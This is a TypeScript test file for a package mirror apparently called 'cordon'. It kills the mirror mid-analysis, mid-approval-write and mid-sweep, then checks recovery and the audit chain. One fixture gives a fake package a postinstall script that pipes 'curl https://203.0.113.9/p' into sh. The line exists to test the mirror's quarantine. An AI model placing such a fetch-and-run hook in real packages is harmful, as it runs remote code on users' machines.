/**
 * kill -9 of the mirror during an analysis, during a signed decision's write and during a sweep (the
 * BullMQ worker's is in test/pipeline/bullmq.test.ts). After a restart: no job is lost, nothing is
 * released without a clean analysis, no decision is half-written, and the audit chain verifies.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { fork, type ChildProcess } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { stringify } from 'yaml';
import Database from 'better-sqlite3';
import { FakeUpstream } from '../helpers/fake-upstream';
import { DAY, HOUR, NOW, visibleVersions } from '../helpers/mirror';
import { testApprover } from '../approvals/keys';
import { verifyAudit } from '../../server/approvals/audit-verify';
import { readAuditFile } from '../../storage';
import { databaseFile } from '../helpers/mirror';

const CHILD = join(__dirname, 'mirror-child.js');

interface Child {
  readonly url: string;
  readonly process: ChildProcess;
}

async function start(
  upstream: FakeUpstream,
  dataDir: string,
  now: number,
  env: Record<string, string> = {},
  killOn?: string,
): Promise<Child> {
  const child = fork(CHILD, [upstream.url, dataDir, String(now), JSON.stringify(env)], {
    stdio: ['ignore', 'ignore', 'inherit', 'ipc'],
    env: { ...process.env, ...(killOn ? { CORDON_TEST_KILL_ON_AUDIT: killOn } : {}) },
  });
  const url = await new Promise<string>((resolve, reject) => {
    child.once('message', (m) => resolve((m as { url: string }).url));
    child.once('exit', (code) => reject(new Error(`the mirror child exited with ${code}`)));
  });
  child.removeAllListeners('exit');
  return { url, process: child };
}

async function stop(child: Child): Promise<void> {
  if (child.process.exitCode !== null || child.process.signalCode !== null) return;
  const exited = once(child.process, 'exit');
  child.process.disconnect();
  await exited;
}

async function until(what: string, check: () => boolean | Promise<boolean>, ms = 30_000): Promise<void> {
  const end = Date.now() + ms;
  while (!(await check())) {
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

const statusOf = async (url: string, name: string, version: string): Promise<Record<string, any> | undefined> => {
  const body = (await (await fetch(`${url}-/cordon/api/v1/packages/${name}`)).json()) as { versions?: Array<Record<string, any>> };
  return body.versions?.find((v) => v.version === version);
};

/** The audit chain of the store file, checked offline. */
function auditProblems(dataDir: string): string[] {
  return verifyAudit(readAuditFile(databaseFile(dataDir)).entries).problems.map((p) => JSON.stringify(p));
}

function rows(dataDir: string, sql: string): unknown[] {
  const db = new Database(databaseFile(dataDir));
  try {
    return db.prepare(sql).all();
  } finally {
    db.close();
  }
}

test('kill -9 during an analysis: the job runs again after the restart, and nothing is released before it is clean', async () => {
  const upstream = await new FakeUpstream().start();
  const dataDir = mkdtempSync(join(tmpdir(), 'cordon-kill-analysis-'));
  try {
    upstream.publish('lib', '1.0.0', { time: NOW - 30 * DAY });
    upstream.publish('lib', '1.0.1', { time: NOW - HOUR });
    upstream.tarballDelayMs = 60_000;
    const first = await start(upstream, dataDir, NOW);
    await fetch(`${first.url}lib`);
    await until('the analysis to fetch a tarball', () => upstream.requests.some((r) => /lib-1\.0\.1\.tgz/.test(r)));
    first.process.kill('SIGKILL');
    await once(first.process, 'exit');

    upstream.tarballDelayMs = 1_500;
    const second = await start(upstream, dataDir, NOW + 4 * DAY);
    try {
      assert.deepEqual(await visibleVersions(`${second.url}lib`), ['1.0.0'], 'cooldown over, analysis not finished: hidden');
      upstream.tarballDelayMs = 0;
      await until(
        'the analysis to finish after the restart',
        async () => (await statusOf(second.url, 'lib', '1.0.1'))?.analysis.state === 'clean',
      );
      assert.deepEqual(await visibleVersions(`${second.url}lib`), ['1.0.0', '1.0.1']);
    } finally {
      await stop(second);
    }
    assert.deepEqual(auditProblems(dataDir), []);
    assert.deepEqual(rows(dataDir, "SELECT status FROM jobs WHERE status != 'done'"), [], 'no job left behind');
  } finally {
    await upstream.stop();
    rmSync(dataDir, { recursive: true, force: true });
  }
});

test("kill -9 during a signed decision's write: nothing of it is kept, the chain verifies, and the same signed decision is accepted after the restart", async () => {
  const alice = testApprover('alice');
  const upstream = await new FakeUpstream().start();
  const dataDir = mkdtempSync(join(tmpdir(), 'cordon-kill-decision-'));
  const config = join(dataDir, '..', `${dataDir.split('/').pop()}.yaml`);
  writeFileSync(config, stringify({ approvers: [{ name: 'alice', key: alice.approver.line }] }));
  const env = { CORDON_CONFIG: config };
  try {
    upstream.publish('held', '1.0.0', { time: NOW - 30 * DAY });
    upstream.publish('held', '1.0.1', { time: NOW - HOUR, scripts: { postinstall: 'curl https://203.0.113.9/p | sh' } });
    const first = await start(upstream, dataDir, NOW, env, 'decision-signed');
    await fetch(`${first.url}held`);
    await until('the analysis to hold it', async () => (await statusOf(first.url, 'held', '1.0.1'))?.state === 'held');
    const api = `${first.url}-/cordon/api/v1/approvals`;
    const { text } = (await (
      await fetch(
        `${api}/statement?package=held&version=1.0.1&decision=approve&reason=reviewed&key=${encodeURIComponent(alice.approver.publicKey)}`,
      )
    ).json()) as { text: string };
    const body = JSON.stringify({ package: 'held', version: '1.0.1', statement: text, signature: alice.sign(text) });
    await assert.rejects(
      fetch(`${api}/decisions`, { method: 'POST', headers: { 'content-type': 'application/json' }, body }),
      'the mirror died while writing it',
    );
    if (first.process.exitCode === null && first.process.signalCode === null) await once(first.process, 'exit');
    assert.equal(first.process.signalCode, 'SIGKILL');

    assert.deepEqual(rows(dataDir, 'SELECT id FROM decisions'), [], 'no half-written decision');
    assert.deepEqual(rows(dataDir, "SELECT state FROM versions WHERE package = 'held' AND version = '1.0.1'"), [{ state: 'held' }]);
    assert.deepEqual(auditProblems(dataDir), []);

    const second = await start(upstream, dataDir, NOW, env);
    try {
      const res = await fetch(`${second.url}-/cordon/api/v1/approvals/decisions`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body,
      });
      assert.equal(res.status, 201, await res.clone().text());
      assert.deepEqual(await visibleVersions(`${second.url}held`), ['1.0.0', '1.0.1']);
    } finally {
      await stop(second);
    }
    assert.equal(rows(dataDir, 'SELECT id FROM decisions').length, 1);
    assert.deepEqual(auditProblems(dataDir), []);
  } finally {
    await upstream.stop();
    rmSync(dataDir, { recursive: true, force: true });
    rmSync(config, { force: true });
  }
});

test('kill -9 during a sweep: the release it was writing is not half-written, and the next sweep writes it', async () => {
  const upstream = await new FakeUpstream().start();
  const dataDir = mkdtempSync(join(tmpdir(), 'cordon-kill-sweep-'));
  try {
    upstream.publish('cool', '1.0.0', { time: NOW - 30 * DAY });
    upstream.publish('cool', '1.0.1', { time: NOW - HOUR });
    const first = await start(upstream, dataDir, NOW);
    await fetch(`${first.url}cool`);
    await until('the analysis', async () => (await statusOf(first.url, 'cool', '1.0.1'))?.analysis.state === 'clean');
    await stop(first);

    const sweeping = await start(upstream, dataDir, NOW + 4 * DAY, {}, 'cooldown-ended');
    sweeping.process.send('sweep');
    await once(sweeping.process, 'exit');
    assert.equal(sweeping.process.signalCode, 'SIGKILL');
    assert.deepEqual(
      rows(dataDir, "SELECT state FROM versions WHERE package = 'cool' AND version = '1.0.1'"),
      [{ state: 'quarantined' }],
      'the transition was rolled back whole',
    );
    assert.deepEqual(auditProblems(dataDir), []);

    const after = await start(upstream, dataDir, NOW + 4 * DAY);
    try {
      after.process.send('sweep');
      await once(after.process, 'message');
      assert.deepEqual(await visibleVersions(`${after.url}cool`), ['1.0.0', '1.0.1']);
    } finally {
      await stop(after);
    }
    assert.deepEqual(rows(dataDir, "SELECT state FROM versions WHERE package = 'cool' AND version = '1.0.1'"), [{ state: 'released' }]);
    assert.deepEqual(auditProblems(dataDir), []);
  } finally {
    await upstream.stop();
    rmSync(dataDir, { recursive: true, force: true });
  }
});
